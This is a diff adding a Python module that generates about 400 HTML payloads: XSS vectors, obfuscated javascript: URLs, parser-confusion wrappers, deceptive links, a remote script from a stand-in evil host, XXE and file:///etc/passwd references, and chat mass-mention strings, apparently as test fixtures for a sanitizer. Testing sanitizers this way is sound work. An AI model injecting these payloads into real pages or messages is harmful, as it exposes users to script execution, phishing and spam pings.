@@ -1,0 +1,206 @@
+"""Some 400 pieces of markup that try to run something, to lead elsewhere than they say, or to call somebody."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_RUN = "alert(1)"
+
+_HANDLED = (
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "details open",
+    "input autofocus",
+    "marquee",
+    "a href=#",
+    "p",
+    "b",
+)
+_HANDLERS = ("onerror", "onload", "onclick", "ontoggle", "onfocus", "onanimationstart", "ONMOUSEOVER")
+_JOINS = (
+    "<{0} {1}={2}>x",
+    '<{0} {1}="{2}">x</p>',
+    "<{0}/{1}='{2}'//>x",
+    "<{0}\t{1}\n=\n{2} ",
+    '<{0} title=">" {1}={2}>x',
+)
+
+_TARGETS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "java&#x09;script:alert(1)",
+    "java&Tab;script:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript&#58;alert(1)",
+    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
+    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
+    "&#0000106avascript:alert(1)",
+    "javascript://example.org/%0aalert(1)",
+    "java\x00script:alert(1)",
+    "vbscript:msgbox(1)",
+    "livescript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "blob:https://example.org/1",
+    "file:///etc/passwd",
+    "feed:javascript:alert(1)",
+    "view-source:javascript:alert(1)",
+    "https://user:word@example.org/",
+    "https://example.org\\@evil.example/",
+    "https:\\\\evil.example",
+    "http://\u202eelpmaxe.live",
+    "https://exa\u200bmple.org/\u202e",
+    'https://example.org/"onmouseover=alert(1)',
+    "https://example.org/<script>",
+    "//\x00javascript:alert(1)",
+    "https://[::1",
+    "https://example.org:99999999/",
+)
+_POINTING = (
+    '<a href="{}">x</a>',
+    "<a href='{}'>x</a>",
+    "<a href={}>x</a>",
+    '<img src="{}">',
+    '<video src="{}" poster="{}"></video>',
+    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
+)
+_ELSEWHERE = (
+    '<iframe src="javascript:alert(1)"></iframe>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+    '<button formaction="javascript:alert(1)">x</button>',
+    '<input type=image src="javascript:alert(1)">',
+    '<base href="javascript:alert(1)//"><a href="x">x</a>',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    '<math href="javascript:alert(1)">x</math>',
+    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<p style="width:expression(alert(1))">x</p>',
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    '<table background="javascript:alert(1)"><td>x</table>',
+    '<a href="https://bank.example/" ping="https://evil.example/">x</a>',
+    '<a href="https://evil.example/">https://bank.example/</a>',
+    '<a href="https://evil.example/">bank.example</a>',
+    '<img srcset="javascript:alert(1) 1x" src="x">',
+    '<a href="https://example.org/" href="javascript:alert(1)">x</a>',
+    '<a href="javascript:alert(1)" href="https://example.org/">x</a>',
+    '<set attributeName=href to="javascript:alert(1)">',
+    '<svg><animate attributeName=href values="javascript:alert(1)" /><a id=x><text>x</text></a></svg>',
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "<xml id=x><script>alert(1)</script></xml>",
+)
+
+_SCRIPT = "<script>alert(1)</script>"
+_IMAGE = "<img src=x onerror=alert(1)>"
+_WRAPPED = (
+    "{}",
+    "<{}",
+    "<<{}>",
+    "<!--{}-->",
+    "<!-->{}-->",
+    "<!--->{}-->",
+    "<!--x--!>{}",
+    "<![CDATA[{}]]>",
+    "<!DOCTYPE {}>",
+    "<?{}?>",
+    "</{}>",
+    "<p title='{}'>x</p>",
+    '<p title="</p>{}">x</p>',
+    '<a href="https://example.org/?\'>{}">x</a>',
+    "<title>{}</title>",
+    "<title></title{}>{}",
+    "<textarea></textarea>{}",
+    "<noscript><p title='</noscript>{}'></noscript>",
+    "<style><!--</style>{}-->",
+    "<style></style{}>",
+    "<xmp>{}</xmp>",
+    "<plaintext>{}",
+    "<template>{}</template>",
+    "<template shadowrootmode=open>{}</template>",
+    "<svg><style>{}</style></svg>",
+    "<svg><p><style><g title='</style>{}'>",
+    "<svg></p><style><a id='</style>{}'>",
+    "<svg><desc>{}</desc></svg>",
+    "<svg><foreignObject>{}</foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
+    "<form><math><mtext></form><form><mglyph><style></math>{}",
+    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
+    "<table><tr>{}<td>x</table>",
+    "<table><caption>{}<table><td>{}",
+    "<select>{}</select>",
+    "<b><i></b>{}</i>",
+    "<a><table><a>{}</table></a>",
+    "<frameset>{}</frameset>",
+    "<option><style></option></select>{}</style>",
+    "<pre><code>{}</code></pre>",
+    "<code>`{}`</code>",
+    "<p>\x00{}</p>",
+    "<p>\ud800{}</p>",
+    "<\x00script>{}",
+)
+
+_WRITTEN_OUT = (
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "<p>&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;</p>",
+    "<img src='https://example.org/1.jpg' alt='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>",
+    "<b\u0338>x</b><b>\u0338</b>",
+    "＜script＞alert(1)＜/script＞",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\ufeff<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<sc\u200bript>alert(1)</sc\u200bript>",
+    "<script\x0b>alert(1)</script>",
+    "<script/x>alert(1)</script x>",
+    "<script src=//evil.example/x.js>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script>alert(1)",
+    "<script",
+    "<img src=x onerror=alert(1)",
+    "<a href='javascript:alert(1)",
+    "<p class=invisible><script>alert(1)</script>",
+    "<span class='ellipsis'><img src=x onerror=alert(1)></span>",
+)
+
+CALLS = ("@everyone", "@here", "@channel", "<!channel>", "<!here|x>", "<@U123>", "<@123>", "<@&123>", "<#1>", "<:x:1>")
+_CALLING = (
+    "{}",
+    "<p>hi {}!</p>",
+    "<b>{}</b>",
+    "<a href='https://example.org/'>{}</a>",
+    "<code>{}</code>",
+    "<pre>x\n{}</pre>",
+    "<blockquote>{}</blockquote>",
+)
+
+
+def _escaped(call: str) -> str:
+    return call.replace("<", "&lt;").replace(">", "&gt;")
+
+
+VECTORS = [
+    *(join.format(tag, handler, _RUN) for tag, handler, join in product(_HANDLED, _HANDLERS[:4], _JOINS[:3])),
+    *(join.format(tag, handler, _RUN) for tag, handler, join in product(_HANDLED[:3], _HANDLERS[4:], _JOINS[3:])),
+    *(pointing.replace("{}", target) for target, pointing in product(_TARGETS, _POINTING)),
+    *_ELSEWHERE,
+    *(wrapped.replace("{}", inner) for wrapped, inner in product(_WRAPPED, (_SCRIPT, _IMAGE))),
+    *_WRITTEN_OUT,
+    *(calling.format(_escaped(call)) for call, calling in product(CALLS, _CALLING)),
+    *("@<b>every</b>one", "@<span></span>everyone", "@\u200beveryone", "&#64;everyone", "＠everyone", "@<!-- -->here"),
+    *("&lt;<b>!</b>channel&gt;", "&lt;!<span>channel&gt;</span>", "&lt;@<i>U123&gt;</i>", "&lt;!subteam^S1|x&gt;"),
+]
